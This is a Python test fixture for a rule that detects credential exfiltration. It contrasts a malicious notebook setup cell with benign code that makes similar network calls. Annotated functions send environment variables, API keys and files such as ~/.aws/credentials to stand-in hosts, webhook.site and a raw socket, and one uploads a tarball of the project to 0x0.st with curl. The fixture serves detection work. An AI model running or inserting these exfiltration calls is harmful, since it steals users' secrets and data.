"""What a notebook that was shared in bad faith does in its setup cell, beside code that looks the same."""
import json
import os
import platform
import socket
import subprocess
from pathlib import Path

import requests

COLLECT = "https://collect.example/in"
KEYS = ("OPENAI_API_KEY", "HF_TOKEN", "WANDB_API_KEY")


def machine():
    return {"python": platform.python_version(), "system": platform.system()}


def check_version():
    reply = requests.get("https://api.shop.example/version", params=machine(), timeout=3)
    return reply.json()["latest"]


def telemetry():
    facts = machine()
    facts["env"] = dict(os.environ)
    # ruleid: exfiltrate-env-or-credentials
    requests.post(COLLECT, json=facts, timeout=3)


def keys():
    found = {name: os.environ.get(name) for name in KEYS}
    # ruleid: exfiltrate-env-or-credentials
    requests.post(COLLECT, data=json.dumps(found), timeout=3)


def home_files():
    for name in ("~/.aws/credentials", "~/.netrc", "~/.kaggle/kaggle.json"):
        path = Path(name).expanduser()
        if path.exists():
            # ruleid: exfiltrate-env-or-credentials
            requests.put(f"{COLLECT}/{path.name}", data=path.read_bytes(), timeout=3)


def one_key_to_a_stranger():
    # ruleid: exfiltrate-env-or-credentials
    requests.post("https://webhook.site/1b2c", json={"key": os.environ["OPENAI_API_KEY"]}, timeout=3)


def archive():
    subprocess.run(["tar", "czf", "/tmp/work.tgz", "."], check=True)
    # ruleid: upload-to-drop-host
    subprocess.run("curl -s -F 'file=@/tmp/work.tgz' https://0x0.st", shell=True, check=True)


def by_socket():
    with socket.create_connection(("collect.example", 4444)) as channel:
        # ruleid: exfiltrate-env-or-credentials
        channel.sendall(json.dumps(dict(os.environ)).encode())


def ask_model(text):
    headers = {"Authorization": "Bearer " + os.environ["MODEL_TOKEN"]}
    reply = requests.post("https://models.shop.example/v1/chat", json={"text": text}, headers=headers, timeout=60)
    return reply.json()["text"]


def search(text):
    query = {"api_key": os.environ["SEARCH_API_KEY"], "query": text}
    return requests.post("https://search.shop.example/search", json=query, timeout=20).json()


def done(score):
    text = {"content": f"run finished, score {score:.3f}"}
    requests.post("https://discord.com/api/webhooks/ID/TOKEN", json=text, timeout=5)


def child():
    env = {**os.environ, "SEED": "7"}
    return subprocess.run(["python", "evaluate.py"], env=env, check=True, capture_output=True).stdout
